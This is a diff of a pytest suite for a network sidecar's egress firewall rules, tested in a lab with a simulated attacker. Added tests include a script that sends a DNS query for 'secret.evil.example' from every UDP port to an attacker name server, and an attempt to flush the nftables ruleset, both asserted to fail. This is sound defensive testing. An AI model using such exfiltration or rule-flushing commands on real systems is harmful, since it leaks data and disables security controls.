@@ -1,18 +1,21 @@
 """The sidecar's packet rules (deploy/sidecar/packet-rules.nft) in the namespace that gate and
 workstation share: only the gate's user gets out, and what is refused is refused at once."""
+import json
 import os
+import signal
 import subprocess
 import time
 
 import pytest
 
 from gate import TOP, binary
-from lab import CLEAN_PATH
+from lab import CLEAN_PATH, run, wait_until
 
 LAB = f"{TOP}/deploy/lab"
 ATTACKER, CREDENTIALS, GATE_METRICS = "198.18.2.66", "169.254.170.2", "198.18.3.2"
 DOCKERS_NAMES = "127.0.0.11"
 IPV6_OUTSIDE = "2001:db8:2::2"
+GATE_UID = 65532
 CONNECT = """
 import socket, sys, time
 family, kind, host, port = sys.argv[1:]
@@ -35,11 +38,13 @@ class Station:
     """A lab of the sidecar that is up."""
 
     def __init__(self, lab):
+        self.state = lab.make_folder("sidecar")
+        self._prefix = f"t{os.getpid() % 10000}sc"
         self._environment = {
             "PATH": CLEAN_PATH,
             "SALLYPORT": binary(),
-            "LAB": f"t{os.getpid() % 10000}sc",
-            "LAB_STATE": lab.make_folder("sidecar"),
+            "LAB": self._prefix,
+            "LAB_STATE": self.state,
         }
         self._script("lab.sh", "up", "sidecar")
 
@@ -75,17 +80,38 @@ class Station:
     def on(self, host, *command):
         return self._script("namespaces.sh", "exec", host, *command, check=False)
 
-    def gate_processes(self):
-        found = self.on("ws", "pgrep", "-u", "65532", "-f", "sallyport run").split()
-        return [int(process) for process in found]
+    def start(self, code):
+        """A Python program of the workstation's user, which goes on."""
+        return subprocess.Popen(
+            ["bash", f"{LAB}/namespaces.sh", "as", "1000", "ws", "/usr/bin/python3", "-c", code],
+            env=self._environment,
+            stdout=subprocess.PIPE,
+            text=True,
+            start_new_session=True,
+        )
 
-    def restart_gate(self):
+    @staticmethod
+    def end(program):
+        """Ends what start() started; what it printed since."""
+        os.killpg(program.pid, signal.SIGKILL)
+        return program.communicate()[0]
+
+    def attacker(self):
+        """Bytes that the attacker's own machine received."""
+        with open(f"{self.state}/attacker/own.json", encoding="ascii") as file:
+            return sum(json.load(file).values())
+
+    def gate_processes(self):
+        """Of this lab alone: every namespace sees the machine's processes."""
+        inside = run("ip", "netns", "pids", f"{self._prefix}-ws").split()
+        return [int(each) for each in inside if os.stat(f"/proc/{each}").st_uid == GATE_UID]
+
+    def stop_gate(self):
         for process in self.gate_processes():
-            os.kill(process, 15)
-        end = time.monotonic() + 40
-        while self.gate_processes():
-            assert time.monotonic() < end, "the gate did not end"
-            time.sleep(0.1)
+            os.kill(process, signal.SIGTERM)
+        wait_until(lambda: not self.gate_processes(), 40, "the gate to end")
+
+    def start_gate(self):
         self._script("lab.sh", "gate", "ws")
 
     def close(self):
@@ -156,16 +182,71 @@ def test_prometheus_reaches_the_metrics(station):
 
 
 def test_the_workstation_cannot_change_the_rules(station):
-    station.run("nft", "flush", "ruleset")
+    said = station.run("bash", "-c", "/usr/sbin/nft flush ruleset 2>&1")
+    assert "Operation not permitted" in said
     assert station.dial("AF_INET", "SOCK_STREAM", ATTACKER, 443)[0] == "Connection refused"
-    assert "Operation not permitted" in station.run(
-        "bash", "-c", "/usr/sbin/nft flush ruleset 2>&1"
-    )
+
+
+# From each port that the gate may have asked a name server from: they are tracked for a while.
+REUSE = r"""
+import socket
+query = bytes.fromhex("010201000001000000000000") + b"\6secret\4evil\7example\0\0\1\0\1"
+for port in range(1024, 65536):
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
+        try:
+            peer.bind(("0.0.0.0", port))
+            peer.connect(("198.18.2.53", 53))
+            peer.send(query)
+            print("sent from", port)
+        except OSError:
+            pass
+"""
+
+
+def test_no_port_that_the_gate_has_left_lets_another_user_out(station):
+    for number in range(6):
+        station.run("curl", "-sS", "-o", "/dev/null", f"https://x{number}.aws.amazon.com/")
+    before = station.attacker()
+    assert station.run("/usr/bin/python3", "-c", REUSE) == ""
+    assert station.attacker() == before
+
+
+SERVE = """
+import socket
+server = socket.create_server(("", {port}), reuse_port=True)
+print("listens", flush=True)
+server.settimeout(20)
+connection, _ = server.accept()
+connection.sendall(b"secret")
+print("served", flush=True)
+"""
+
+
+def test_a_server_of_the_workstation_is_reached_by_nobody_outside(station):
+    before = station.refused()["refused_inbound"]
+    server = station.start(SERVE.format(port=8000))
+    assert server.stdout.readline() == "listens\n"
+    said = station.on("net", "curl", "-sS", "-m", "5", "--http0.9", "http://198.18.1.10:8000/")
+    assert "served" not in station.end(server)
+    assert said == ""
+    assert station.refused()["refused_inbound"] > before
+
+
+def test_nobody_answers_at_the_gates_port_while_it_is_away(station):
+    station.stop_gate()
+    server = station.start(SERVE.format(port=3128))
+    assert server.stdout.readline() == "listens\n"
+    said = station.run("curl", "-sS", "-m", "2", "--http0.9", "http://127.0.0.1:3128/")
+    served = station.end(server)
+    station.start_gate()
+    assert said == ""
+    assert "served" not in served
 
 
 def test_a_restarted_gate_serves_the_same_workstation_again(station):
     before = station.gate_processes()
-    station.restart_gate()
+    station.stop_gate()
+    station.start_gate()
     assert station.gate_processes() and station.gate_processes() != before
     assert "Console" in station.run("curl", "-sS", "https://console.aws.amazon.com/")
     assert station.dial("AF_INET", "SOCK_STREAM", ATTACKER, 443)[0] == "Connection refused"
